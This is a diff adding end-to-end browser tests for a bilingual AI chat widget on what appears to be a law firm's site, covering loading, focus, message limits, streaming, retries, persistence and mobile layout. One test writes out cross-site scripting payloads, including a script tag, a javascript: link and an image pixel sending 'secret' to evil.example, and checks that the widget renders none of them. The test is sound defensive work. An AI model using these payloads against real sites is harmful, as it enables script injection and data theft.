@@ -1,0 +1,469 @@
+import type { Page } from "playwright-core";
+import { describe, expect, it } from "vitest";
+import { hydrated, launchBrowser, phone } from "./browser.ts";
+import { chatOn } from "./chat-page.ts";
+
+const { open } = launchBrowser();
+
+async function chatAt(path: string, options?: Parameters<typeof open>[1]) {
+	const page = await open(path, options);
+	await hydrated(page);
+	return { page, ...(await chatOn(page)) };
+}
+
+const focused = (page: Page) => page.evaluate(() => document.activeElement?.tagName);
+
+describe("opening", () => {
+	it("fetches no code of the chat, its words or its toasts before it is reached for", async () => {
+		const page = await open("/robots.txt");
+		const scripts: Promise<string>[] = [];
+		page.on("response", (response) => {
+			if (response.url().endsWith(".js")) scripts.push(response.text());
+		});
+		await page.goto("/");
+		await hydrated(page);
+		await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
+		const has = async (mark: string) => (await Promise.all(scripts)).some((text) => text.includes(mark));
+		expect(scripts.length).toBeGreaterThan(0);
+		for (const mark of ["lindero:chat", "Escriba su pregunta", "Type your question"])
+			expect(await has(mark)).toBe(false);
+		const chat = await chatOn(page);
+		await chat.open();
+		for (const mark of ["lindero:chat", "Escriba su pregunta"]) expect(await has(mark)).toBe(true);
+		expect(await has("Type your question")).toBe(false);
+	});
+
+	it("remembers a press from before hydration", async () => {
+		const page = await open("/robots.txt");
+		await page.route("**/assets/*.js", async (route) => {
+			await new Promise((resolve) => setTimeout(resolve, 400));
+			await route.continue();
+		});
+		await page.goto("/", { waitUntil: "domcontentloaded" });
+		const chat = await chatOn(page);
+		await chat.launcher.click();
+		expect(await page.evaluate(() => Object.keys(document.body).some((key) => key.startsWith("__react")))).toBe(false);
+		await chat.panel.waitFor();
+		expect(await focused(page)).toBe("TEXTAREA");
+	});
+
+	it("puts focus into the field; Escape closes and gives it back", async () => {
+		const { page, launcher, panel, ...chat } = await chatAt("/");
+		await launcher.focus();
+		await page.keyboard.press("Enter");
+		await panel.waitFor();
+		expect(await focused(page)).toBe("TEXTAREA");
+		expect(await chat.launcher?.count?.()).toBeUndefined();
+		await page.keyboard.press("Escape");
+		await panel.waitFor({ state: "hidden" });
+		expect(await launcher.evaluate((button) => button === document.activeElement)).toBe(true);
+		expect(await launcher.getAttribute("aria-expanded")).toBe("false");
+	});
+
+	it.each([
+		["/", "Hola. ¿En qué le puedo ayudar?", "no un abogado", "This is an AI program, not a lawyer"],
+		["/en", "Hello. How can I help?", "not a lawyer", "Esto es un programa de IA, no un abogado"],
+	])("on %s says at once who answers, and welcomes once", async (path, welcome, notice, other) => {
+		const { page, panel, log, ...chat } = await chatAt(path);
+		await chat.open();
+		for (let time = 0; time < 2; time++) {
+			expect(await log.getByText(welcome).count()).toBe(1);
+			await page.keyboard.press("Escape");
+			await panel.waitFor({ state: "hidden" });
+			await chat.open();
+		}
+		const text = await log.innerText();
+		expect(text.indexOf(notice)).toBeGreaterThanOrEqual(0);
+		expect(text.indexOf(notice)).toBeLessThan(text.indexOf(welcome));
+		expect(text).toContain(other);
+		expect(await log.evaluate((box) => box.scrollTop)).toBe(0);
+		await chat.exchange("Hola", "Buenos días.");
+		expect(await log.getByText(welcome).count()).toBe(1);
+		expect((await chat.route()).requests).toEqual([{ messages: [{ role: "user", content: "Hola" }] }]);
+	});
+
+	it("sends nothing for an example: it only writes it into the field", async () => {
+		const { page, panel, field, ...chat } = await chatAt("/");
+		await chat.open();
+		await panel.getByRole("button", { name: "¿Están abiertos ahora?" }).click();
+		expect(await field.inputValue()).toBe("¿Están abiertos ahora?");
+		expect(await focused(page)).toBe("TEXTAREA");
+		expect((await chat.route()).requests).toEqual([]);
+	});
+});
+
+describe("sending", () => {
+	it("trims, ignores what is empty, and breaks the line on Shift+Enter", async () => {
+		const { page, field, ...chat } = await chatAt("/");
+		await chat.open();
+		await chat.ask("   \n ");
+		await chat.send.click();
+		expect((await chat.route()).requests).toEqual([]);
+		await field.fill("  Hola");
+		await page.keyboard.press("End");
+		await page.keyboard.press("Shift+Enter");
+		await page.keyboard.type("¿qué tal?  ");
+		expect((await chat.route()).requests).toEqual([]);
+		await page.keyboard.press("Enter");
+		await chat.stop.waitFor();
+		expect((await chat.route()).requests).toEqual([{ messages: [{ role: "user", content: "Hola\n¿qué tal?" }] }]);
+		expect((await chat.route()).languages).toEqual(["es"]);
+		expect(await field.inputValue()).toBe("");
+	});
+
+	it.each([
+		[
+			"/",
+			"es",
+			"El mensaje es demasiado largo (máximo 5000 caracteres)",
+			"El mensaje es inválido o demasiado largo (máximo 5000 caracteres)",
+		],
+		[
+			"/en",
+			"en",
+			"Message is too long (maximum 5000 characters)",
+			"Message is invalid or too long (maximum 5000 characters)",
+		],
+	])(
+		"on %s takes 5000 characters, refuses 5001, and tells apart what the route refuses",
+		async (path, language, tooLong, refused) => {
+			const { page, field, ...chat } = await chatAt(path);
+			await chat.open();
+			await chat.ask(` ${"x".repeat(5001)} `);
+			await chat.toast(tooLong).waitFor();
+			expect(await chat.toast("Error").isVisible()).toBe(true);
+			expect(await field.inputValue()).toHaveLength(5003);
+			expect((await chat.route()).requests).toEqual([]);
+			await chat.exchange(` ${"x".repeat(5000)} `, "Bien.");
+			expect((await chat.route()).requests[0]?.messages[0]?.content).toHaveLength(5000);
+			expect((await chat.route()).languages).toEqual([language]);
+			for (const [index, status] of [413, 422].entries()) {
+				await page.reload();
+				await hydrated(page);
+				await chat.open();
+				await chat.answerWith(status);
+				await chat.ask("Otra");
+				await chat.toast(refused).waitFor();
+				expect(await chat.answers.nth(index + 1).getAttribute("data-status")).toBe("failed");
+			}
+		},
+	);
+
+	it("is blocked while an answer is on its way, and says so", async () => {
+		const { page, field, panel, ...chat } = await chatAt("/");
+		await chat.open();
+		await chat.ask("Hola");
+		await chat.stop.waitFor();
+		expect(await field.isDisabled()).toBe(true);
+		expect(await chat.send.isDisabled()).toBe(true);
+		expect(await panel.getByRole("status").filter({ hasText: "El asistente está respondiendo" }).isVisible()).toBe(
+			true,
+		);
+		await page.keyboard.press("Enter");
+		await chat.say("Buenos días.");
+		expect(await field.isDisabled()).toBe(true);
+		await chat.end();
+		await chat.stop.waitFor({ state: "detached" });
+		expect(await field.isEnabled()).toBe(true);
+		expect(await focused(page)).toBe("TEXTAREA");
+		expect((await chat.route()).requests).toHaveLength(1);
+	});
+
+	it("is not what an Enter does that ends a composition", async () => {
+		const { page, field, ...chat } = await chatAt("/");
+		await chat.open();
+		await field.pressSequentially("にほん");
+		for (const composing of [{ isComposing: true }, { keyCode: 229 }]) {
+			await field.dispatchEvent("keydown", { key: "Enter", bubbles: true, cancelable: true, ...composing });
+		}
+		const input = await page.context().newCDPSession(page);
+		await input.send("Input.imeSetComposition", { text: "ご", selectionStart: 1, selectionEnd: 1 });
+		await page.keyboard.press("Enter");
+		expect((await chat.route()).requests).toEqual([]);
+		await input.send("Input.insertText", { text: "語" });
+		await page.keyboard.press("Enter");
+		await chat.stop.waitFor();
+		expect((await chat.route()).requests).toHaveLength(1);
+	});
+
+	it("stops at the visitor's word and keeps what has arrived", async () => {
+		const { page, field, ...chat } = await chatAt("/");
+		await chat.open();
+		await chat.ask("Hola");
+		await chat.stop.waitFor();
+		await chat.say("Buenos días, ¿en qué");
+		await chat.answers.getByText("Buenos días, ¿en qué").waitFor();
+		await chat.stop.click();
+		await expect.poll(() => chat.answers.first().getAttribute("data-status")).toBe("stopped");
+		expect(await chat.answers.first().innerText()).toContain("Buenos días, ¿en qué");
+		expect((await chat.route()).aborted).toBe(1);
+		expect(await page.locator("[data-toasts]").getByText("Error").count()).toBe(0);
+		await expect.poll(() => focused(page)).toBe("TEXTAREA");
+		await chat.exchange("Siga", "Con gusto.");
+		expect((await chat.route()).requests[1]?.messages.map(({ content }) => content)).toEqual([
+			"Hola",
+			"Buenos días, ¿en qué",
+			"Siga",
+		]);
+		expect(await field.isEnabled()).toBe(true);
+	});
+});
+
+describe("a failure", () => {
+	it.each([
+		["/", "No se pudo conectar con el asistente. Intenta de nuevo."],
+		["/en", "Could not connect to the assistant. Please try again."],
+	])("on %s keeps the text, shows the toast and offers a retry", async (path, text) => {
+		const { panel, retry, ...chat } = await chatAt(path);
+		await chat.open();
+		await chat.answerWith(0);
+		await chat.ask("Hola");
+		await chat.toast(text).waitFor();
+		const toast = panel.page().locator("[data-toasts] [data-type=destructive]");
+		expect(await toast.getByText("Error", { exact: true }).isVisible()).toBe(true);
+		expect(await panel.getByText("Hola", { exact: true }).isVisible()).toBe(true);
+		await chat.answerWith(200);
+		await retry.click();
+		await chat.stop.waitFor();
+		await chat.say("Buenos días, le");
+		await chat.answers.getByText("Buenos días, le").waitFor();
+		await chat.end('{"error":{"message":"broken"}}');
+		await retry.waitFor();
+		expect(await chat.answers.first().innerText()).toContain("Buenos días, le");
+		await chat.answerWith(502);
+		await retry.click();
+		await retry.waitFor();
+		expect(await chat.answers.first().innerText()).toContain("Buenos días, le");
+		await chat.answerWith(200);
+		await retry.click();
+		await chat.stop.waitFor();
+		await chat.say("Buenos días.");
+		await chat.end();
+		await chat.stop.waitFor({ state: "detached" });
+		expect((await chat.answers.first().innerText()).trim()).toMatch(/Buenos días\.$/);
+		expect(await retry.count()).toBe(0);
+		const { requests } = await chat.route();
+		expect(requests.map(({ messages }) => messages)).toEqual(Array(4).fill([{ role: "user", content: "Hola" }]));
+	});
+});
+
+describe("the conversation", () => {
+	it("stays over navigation, reload and change of language, and so does what was typed", async () => {
+		const { page, panel, field, ...chat } = await chatAt("/equipo");
+		await chat.open();
+		await chat.exchange("¿Qué llevo?", "Los **contratos**.");
+		await chat.ask("¿Y en Monterrey?");
+		await chat.stop.waitFor();
+		await chat.say("Lo mis");
+		await chat.answers.getByText("Lo mis").waitFor();
+
+		await page.getByRole("contentinfo").getByRole("link", { name: "Aviso de privacidad" }).click();
+		await page.waitForURL("**/terminos#privacidad");
+		expect(await panel.isVisible()).toBe(true);
+		await chat.say("mo");
+		await chat.answers.getByText("Lo mismo").waitFor();
+
+		await page.reload();
+		await hydrated(page);
+		await chat.open();
+		expect(await panel.getByText("contratos").isVisible()).toBe(true);
+		expect(await chat.answers.nth(1).getAttribute("data-status")).toBe("stopped");
+		expect(await chat.answers.nth(1).innerText()).toContain("Lo mismo");
+		await field.fill("Sin enviar");
+
+		await page.getByRole("banner").locator("a[hreflang=en]").click();
+		await page.waitForURL("**/en/terms*");
+		await hydrated(page);
+		await chat.open();
+		expect(await panel.getByText("contratos").isVisible()).toBe(true);
+		expect(await panel.getByText("Answer stopped").isVisible()).toBe(true);
+		expect(await field.inputValue()).toBe("Sin enviar");
+		await chat.exchange("And fees?", "In writing.");
+		expect((await chat.route()).requests[0]?.messages).toHaveLength(5);
+		expect((await chat.route()).languages).toEqual(["en"]);
+	});
+
+	it("is erased after a question, and then nothing of it is left", async () => {
+		const { page, panel, field, ...chat } = await chatAt("/");
+		await chat.open();
+		expect(await panel.getByRole("button", { name: "Borrar la conversación" }).count()).toBe(0);
+		await chat.exchange("Hola", "Buenos días.");
+		await panel.getByRole("button", { name: "Borrar la conversación" }).click();
+		expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("Conservar");
+		await page.keyboard.press("Escape");
+		expect(await panel.getByRole("alertdialog").count()).toBe(0);
+		expect(await panel.isVisible()).toBe(true);
+		expect(await panel.getByText("Buenos días.").isVisible()).toBe(true);
+		await panel.getByRole("button", { name: "Borrar la conversación" }).click();
+		await panel.getByRole("button", { name: "Borrar", exact: true }).click();
+		await expect.poll(() => panel.getByText("Buenos días.").count()).toBe(0);
+		expect(await field.evaluate((element) => element === document.activeElement)).toBe(true);
+		expect(
+			await page.evaluate(() => Object.keys(sessionStorage).filter((key) => key.startsWith("lindero:chat"))),
+		).toEqual([]);
+	});
+
+	it("goes to the firm by the form: in its own field, to be edited, not sent", async () => {
+		const { page, panel, ...chat } = await chatAt("/");
+		await chat.open();
+		await chat.exchange("¿Qué llevo?", "Los **contratos**.");
+		await panel.getByRole("link", { name: "Enviar esto a la firma" }).click();
+		await page.waitForURL("**/contacto#formulario");
+		await panel.waitFor({ state: "hidden" });
+		const field = page.locator('main [name="transcript"]');
+		await expect.poll(() => field.inputValue()).toBe("Visitante:\n¿Qué llevo?\n\nAsistente:\nLos **contratos**.");
+		expect(await field.isEditable()).toBe(true);
+		expect(await page.locator('main [name="consent"]').isChecked()).toBe(false);
+	});
+});
+
+describe("reading", () => {
+	const long = (from: number, count: number) =>
+		Array.from({ length: count }, (_, index) => `Párrafo ${from + index} de una respuesta larga.`).join("\n\n");
+
+	it("follows the answer until the reader scrolls up, and then leaves the page alone", async () => {
+		const { log, panel, ...chat } = await chatAt("/");
+		await chat.open();
+		await chat.ask("Cuénteme");
+		await chat.stop.waitFor();
+		await chat.say(`${long(1, 40)}\n\n`);
+		await chat.answers.getByText("Párrafo 40").waitFor();
+		const fromEnd = () => log.evaluate((box) => Math.round(box.scrollHeight - box.clientHeight - box.scrollTop));
+		await expect.poll(fromEnd).toBeLessThan(3);
+		expect(await panel.getByRole("button", { name: "Mensajes nuevos" }).count()).toBe(0);
+
+		await log.hover();
+		await log.page().mouse.wheel(0, -600);
+		await expect.poll(fromEnd).toBeGreaterThan(300);
+		const top = await log.evaluate((box) => box.scrollTop);
+		await chat.say(long(41, 40));
+		await chat.answers.getByText("Párrafo 80").waitFor();
+		await panel.getByRole("button", { name: "Mensajes nuevos" }).waitFor();
+		expect(await log.evaluate((box) => box.scrollTop)).toBe(top);
+
+		await panel.getByRole("button", { name: "Mensajes nuevos" }).click();
+		await expect.poll(fromEnd).toBeLessThan(3);
+		await chat.say("\n\nFin.");
+		await chat.answers.getByText("Fin.").waitFor();
+		await expect.poll(fromEnd).toBeLessThan(3);
+		expect(await panel.getByRole("button", { name: "Mensajes nuevos" }).count()).toBe(0);
+	});
+
+	it("announces a finished answer once, as it is shown", async () => {
+		const { page, log, panel, ...chat } = await chatAt("/");
+		await chat.open();
+		expect(await log.getAttribute("aria-live")).toBe("off");
+		await page.evaluate(() => {
+			const told: string[] = [];
+			Object.assign(window, { told });
+			const regions = '[role="status"], [role="alert"], [aria-live="polite"], [aria-live="assertive"]';
+			new MutationObserver((changes) => {
+				for (const { target } of changes) {
+					const element = target instanceof Element ? target : target.parentElement;
+					const region = element?.closest(regions);
+					if (region?.textContent) told.push(region.textContent);
+				}
+			}).observe(document.body, { childList: true, characterData: true, subtree: true });
+		});
+		await chat.ask("¿Qué llevo?");
+		await chat.stop.waitFor();
+		for (const word of ["Traiga ", "los ", "**contratos**", ":\n\n", "- uno\n", "- dos"]) {
+			await chat.say(word);
+			await page.waitForTimeout(60);
+		}
+		await chat.end();
+		await chat.stop.waitFor({ state: "detached" });
+		const told = () =>
+			page.evaluate(() => Reflect.get(window, "told").filter((text: string) => text.includes("Traiga")));
+		await expect.poll(told).toEqual(["El asistente respondió: Traiga los contratos: uno dos"]);
+		await page.waitForTimeout(300);
+		expect(await told()).toHaveLength(1);
+		expect(await panel.getByRole("status").filter({ hasText: "Traiga" }).count()).toBe(1);
+	});
+
+	it("draws no HTML, fetches no picture and follows no script that an answer or a visitor brings", async () => {
+		const { page, panel, ...chat } = await chatAt("/");
+		const requests: string[] = [];
+		page.on("request", (request) => requests.push(request.url()));
+		page.on("dialog", () => expect.unreachable("a script ran"));
+		await chat.open();
+		const attack = [
+			"<img src=x onerror=alert(1)><script>alert(1)</script>",
+			"![x](https://evil.example/pixel.gif?q=secret) [x](javascript:alert(1)) <https://evil.example>",
+			"[contacto](/contacto)",
+		].join("\n\n");
+		await chat.exchange(attack, attack);
+		await page.waitForTimeout(200);
+		expect(requests.filter((url) => url.includes("evil.example") || url.endsWith("/x"))).toEqual([]);
+		expect(await panel.getByRole("log").locator("img, script, iframe").count()).toBe(0);
+		expect(
+			await chat.answers.getByRole("link").evaluateAll((links) => links.map((link) => link.getAttribute("href"))),
+		).toEqual(["/contacto"]);
+	});
+});
+
+describe("on a small screen", () => {
+	it("covers the page and gets out of the way of a link", async () => {
+		const { page, panel, ...chat } = await chatAt("/", phone);
+		await chat.open();
+		expect(await panel.boundingBox()).toEqual({ x: 0, y: 0, width: 390, height: 844 });
+		expect(await panel.getAttribute("aria-modal")).toBe("true");
+		expect(await page.locator("main").evaluate((main) => main.inert)).toBe(true);
+		await chat.exchange("¿Dónde?", "En [Contacto](/contacto).");
+		await chat.answers.getByRole("link").click();
+		await page.waitForURL("**/contacto");
+		await panel.waitFor({ state: "hidden" });
+		expect(await page.locator("main").evaluate((main) => main.inert)).toBe(false);
+		expect(await page.evaluate(() => document.documentElement.style.overflow)).toBe("");
+	});
+
+	it("keeps the field above the on-screen keyboard", async () => {
+		const { page, field, panel, ...chat } = await chatAt("/", phone);
+		await chat.open();
+		await page.evaluate(() => {
+			const visible = window.visualViewport;
+			if (!visible) throw new Error("no visual viewport");
+			Object.defineProperty(visible, "height", { value: 420, configurable: true });
+			Object.defineProperty(visible, "offsetTop", { value: 60, configurable: true });
+			visible.dispatchEvent(new Event("resize"));
+		});
+		expect(await panel.boundingBox()).toMatchObject({ y: 60, height: 420 });
+		const box = await field.boundingBox();
+		expect((box?.y ?? 0) + (box?.height ?? 0)).toBeLessThanOrEqual(480);
+	});
+
+	const sizes = [
+		["320 px", { width: 320, height: 568 }, ""],
+		["200 % text", { width: 1280, height: 800 }, "200%"],
+		["a phone at 200 % text", { width: 390, height: 844 }, "200%"],
+		["320 px at 200 % text", { width: 320, height: 640 }, "200%"],
+	] as const;
+
+	it.each(sizes)("works at %s, in both languages", async (_, viewport, fontSize) => {
+		for (const path of ["/contacto", "/en/contact"]) {
+			const { page, panel, field, log, ...chat } = await chatAt(path, { viewport });
+			await page.evaluate((size) => {
+				document.documentElement.style.fontSize = size;
+			}, fontSize);
+			// A page that is itself too wide at this size must not hide what the panel does.
+			await chat.launcher.evaluate((button) => button.click());
+			await panel.waitFor();
+			await chat.exchange("Pregunta-muy-larga-sin-espacios-".repeat(5), "Respuesta https://example.com/".repeat(8));
+			const sideways = await panel.evaluate((dialog) =>
+				[dialog, ...dialog.querySelectorAll("*")]
+					.filter(
+						(each) => !each.closest(".sr-only, svg") && each.scrollWidth > each.clientWidth + 1 && each.clientWidth > 0,
+					)
+					.map((each) => `${each.tagName}.${each.className}`),
+			);
+			expect(sideways).toEqual([]);
+			for (const part of [field, chat.send, panel.getByRole("button", { name: /Cerrar el|Close the/ })]) {
+				const box = await part.boundingBox();
+				expect(box?.x).toBeGreaterThanOrEqual(0);
+				expect((box?.x ?? 0) + (box?.width ?? 0)).toBeLessThanOrEqual(viewport.width);
+				expect((box?.y ?? 0) + (box?.height ?? 0)).toBeLessThanOrEqual(viewport.height);
+			}
+			expect((await log.boundingBox())?.height).toBeGreaterThan(100);
+		}
+	});
+});
